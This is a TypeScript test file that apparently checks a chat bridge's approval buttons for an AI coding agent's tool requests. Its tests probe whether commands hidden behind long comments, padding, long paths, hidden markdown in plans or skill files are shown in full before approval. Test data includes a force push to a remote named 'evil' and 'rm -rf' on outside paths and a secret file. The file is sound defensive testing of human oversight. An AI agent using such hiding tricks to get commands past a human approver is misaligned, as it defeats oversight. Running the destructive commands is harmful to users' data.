/** What a tap allows: shown whole before it can be tapped, and nothing more. */
import { delay } from "@std/async";
import { join } from "@std/path";
import {
  ADA,
  Arena,
  type ArenaOptions,
  buttons,
  sample,
  SESSION,
  STEP_MS,
  write,
} from "./arena.ts";
import type { ChatMessage } from "../sim/bot_api/mod.ts";
import { judged } from "./open.ts";

async function working(options: ArenaOptions = {}): Promise<Arena> {
  const arena = await Arena.make(options);
  await arena.bench.start();
  await arena.call(`/new ${SESSION}`);
  return arena;
}

/** Allows a request for as long as it is offered. @returns what was read on the way; null when nothing is offered. */
async function allowForLong(arena: Arena, request: ChatMessage): Promise<string | null> {
  const { api } = arena.bench;
  const { message_id: messageId } = request;
  const offered = buttons(request).find((label) =>
    /^Allow (for this session|from now on)/.test(label)
  );
  if (offered === undefined) return null;
  await api.press({ from: ADA, messageId, button: offered }).answer;
  if (offered.startsWith("Allow for")) return request.text;
  const isSecond = (message: ChatMessage) =>
    message.message_id >= messageId && buttons(message).includes("Yes, from now on");
  const second = await api.waitFor(() => api.messages(ADA).find(isSecond), {
    what: "what is allowed from now on",
  });
  const { text } = second;
  await api.press({ from: ADA, messageId: second.message_id, button: "Yes, from now on" }).answer;
  return text;
}

/** A request for a command whose grant is offered in other words than it means. */
interface GrantCase {
  readonly name: string;
  readonly asks: (arena: Arena) => string;
  /** Whether it has to be offered, or may be refused. */
  readonly mustOffer?: boolean;
  /** Commands that run unasked after it only if more was granted than shown. */
  readonly abuses: (arena: Arena) => readonly { readonly step: string; readonly unless?: RegExp }[];
}

const LONG = "p".repeat(190);

const GRANTS: readonly GrantCase[] = [
  {
    name: "a push behind a long comment",
    asks: () => `TOOL:bash:python3 -c '# ${LONG}' && git push origin main`,
    mustOffer: false,
    abuses: () => [
      { step: "TOOL:bash:git push --force evil HEAD" },
      { step: "TOOL:bash:python3 -c 'print(1)'" },
    ],
  },
  {
    name: "a command with words behind it",
    asks: () => "TOOL:bash:touch a.txt",
    abuses: (arena) => [
      { step: "TOOL:bash:touch b.txt", unless: /touch(:\*| \*)/ },
      { step: `TOOL:bash:touch ${join(arena.outside, "c.txt")}`, unless: /touch(:\*| \*)/ },
    ],
  },
  {
    name: "a file in a directory outside",
    asks: (arena) => `TOOL:write:${join(arena.outside, "sub/new.txt")}=hello`,
    abuses: (arena) => [
      { step: `TOOL:write:${join(arena.outside, "sub/other.txt")}=hello`, unless: /edit|writ/i },
      { step: `TOOL:bash:rm -rf ${join(arena.outside, "sub/kept")}`, unless: /delet|remov/i },
      { step: `TOOL:bash:rm -rf ${join(arena.outside, "secret.txt")}` },
    ],
  },
];

for (const { name, asks, abuses, mustOffer = true } of GRANTS) {
  Deno.test(`attacks: a grant means what was shown: ${name}`, async () => {
    await using arena = await working();
    await write(join(arena.outside, "sub/kept"), "kept");
    const request = await arena.request(`${asks(arena)};;SAY:granted`);
    const shown = await allowForLong(arena, request);
    if (shown === null) arena.answer(request, "Deny");
    await arena.bench.hears(/^granted$/, STEP_MS);
    const effects: string[] = [];
    if (shown !== null) {
      const again = await arena.turn(asks(arena));
      if (again.length > 0) effects.push("what was granted is asked again");
    } else if (mustOffer) effects.push("nothing was offered");
    for (const { step, unless } of abuses(arena)) {
      const asked = await arena.turn(step);
      const meant = unless !== undefined && shown !== null && unless.test(shown);
      if (asked.length > 0 || meant) continue;
      effects.push(`unasked: ${step.replaceAll(arena.outside, "OUTSIDE")}`);
    }
    judged(`grant: ${name}`, effects);
  });
}

Deno.test("attacks: what is allowed is shown whole before it can be tapped", async () => {
  await using arena = await working();
  const filler = "# nothing to see here, only a comment that goes on\n".repeat(300);
  const end = "touch MARK-AT-THE-END";
  const cases: Record<string, { name: string; input: Record<string, unknown> }> = {
    "a long command": { name: "Bash", input: { command: `${filler}${end}`, description: "look" } },
    "a long file": {
      name: "Write",
      input: { file_path: join(arena.cwd, "made.sh"), content: `${filler}${end}` },
    },
    "a long line": {
      name: "Bash",
      input: { command: `echo ${"x".repeat(9_000)}; ${end}`, description: "look" },
    },
    "the name of a long path": {
      name: "Write",
      input: {
        file_path: join(arena.cwd, ...Array.from({ length: 12 }, () => "d".repeat(80)), end),
        content: "x",
      },
    },
    "a tool of a server": {
      name: "mcp__owner__act",
      input: { text: `${filler}`, command: end },
    },
  };
  const effects: string[] = [];
  for (const [index, [name, tool]] of Object.entries(cases).entries()) {
    const mark = `MARK-AT-THE-END-${index}`;
    const input = JSON.parse(JSON.stringify(tool.input).replaceAll("MARK-AT-THE-END", mark));
    arena.messages.push({ tools: [{ name: tool.name, input }] });
    const [request] = await arena.turn("TOOL:bash:echo instead");
    if (request === undefined) effects.push(`${name}: was not asked`);
    else if (!arena.readBy(request).includes(mark)) effects.push(name);
  }
  judged("shown whole", effects);
});

Deno.test("attacks: a plan hides nothing from the person that Claude reads", async () => {
  await using arena = await working({ settings: { claude: { permission_mode: "plan" } } });
  const plan = [
    "# The plan",
    "<!-- MARK-1 delete everything -->",
    'See [the page](https://example.org/MARK-2 "MARK-3 and this").',
    '![MARK-4 a picture](https://example.org/MARK-5.png "MARK-6")',
    '<a href="https://example.org/MARK-7" title="MARK-8">here</a>',
    '<span hidden data-x="MARK-9">MARK-10</span>',
    "<details><summary>MARK-11</summary>MARK-12</details>",
    '[a reference]: https://example.org/MARK-13 "MARK-14"',
    "[//]: # (MARK-15)",
    "A footnote[^1].",
    "[^1]: MARK-16",
    "[^2]: MARK-17 of which nothing speaks",
    "```sh MARK-18",
    "echo MARK-19",
    "```",
    "<style>MARK-20</style><script>MARK-21</script>",
    "<?MARK-22?> <!DOCTYPE MARK-23> <![CDATA[MARK-24]]>",
  ].join("\n\n");
  await arena.turn();
  const [path = ""] = /[^"\s`]+\/plans\/[\w-]+\.md/.exec(arena.sent()) ?? [];
  arena.messages.push(
    { tools: [{ name: "Write", input: { file_path: path, content: plan } }] },
    { tools: [{ name: "ExitPlanMode", input: { plan } }] },
  );
  arena.bench.say("make a plan");
  const request = await arena.bench.api.waitFor(
    (api) => api.messages(ADA).find((message) => buttons(message).includes("Start")),
    { timeoutMs: STEP_MS, what: "the plan" },
  );
  const read = arena.readBy(request);
  const marks = [...plan.matchAll(/MARK-\d+/g)].map(([mark]) => mark);
  const hidden = marks.filter((mark) => !new RegExp(`${mark}(?!\\d)`).test(read));
  judged("a plan", hidden);
});

Deno.test("attacks: a skill is shown before a tap runs its commands", async () => {
  await using arena = await Arena.make();
  await write(
    join(arena.home, "claude-config/skills/tidy/SKILL.md"),
    "---\nname: tidy\ndescription: tidies\nallowed-tools: Bash(touch:*)\n---\n" +
      "!`touch made-by-skill`\nTidy.",
  );
  await arena.bench.start();
  await arena.call(`/new ${SESSION}`);
  const [request] = await arena.turn('TOOL:json:Skill:{"skill":"tidy"}');
  const effects: string[] = [];
  if (arena.made("made-by-skill")) effects.push("it ran");
  if (request !== undefined && !arena.readBy(request).includes("touch made-by-skill")) {
    effects.push("its command is not shown");
  }
  judged("a skill", effects);
});

/** How long `/status` may take while a request of this size is on its way. */
const STATUS_MS = 10_000;

Deno.test("attacks: no request is so large or so empty that the service stands still", async () => {
  await using arena = await working();
  await arena.turn();
  const effects: string[] = [];
  const blanks: Record<string, string> = {
    "150,000 blanks": `echo ${" ".repeat(150_000)}x`,
    "150,000 line breaks": `echo ${"\n".repeat(150_000)}x`,
    "150,000 tabs": `echo ${"\t".repeat(150_000)}x`,
    "400,000 blanks": `echo ${" ".repeat(400_000)}x`,
    "100,000 blanks and line breaks": `echo ${" \n".repeat(50_000)}x`,
    "100,000 brackets": `echo '${"![".repeat(50_000)}'`,
    "100,000 backticks": `echo '${"`".repeat(100_000)}'`,
    "100,000 stars": `echo '${"*a".repeat(50_000)}'`,
  };
  for (const [name, command] of sample(Object.entries(blanks), 3)) {
    arena.messages.push({ tools: [{ name: "Bash", input: { command, description: "look" } }] });
    const turn = arena.turn("TOOL:bash:echo instead");
    let slowest = 0;
    let over = false;
    void turn.finally(() => over = true).catch(() => {});
    while (!over) {
      const before = performance.now();
      await arena.status();
      slowest = Math.max(slowest, performance.now() - before);
      await delay(100);
    }
    await turn;
    if (slowest > STATUS_MS) effects.push(`${name}: ${(slowest / 1000).toFixed(1)} s`);
  }
  judged("blanks", effects.map((effect) => effect.replace(/:.*/, "")));
});
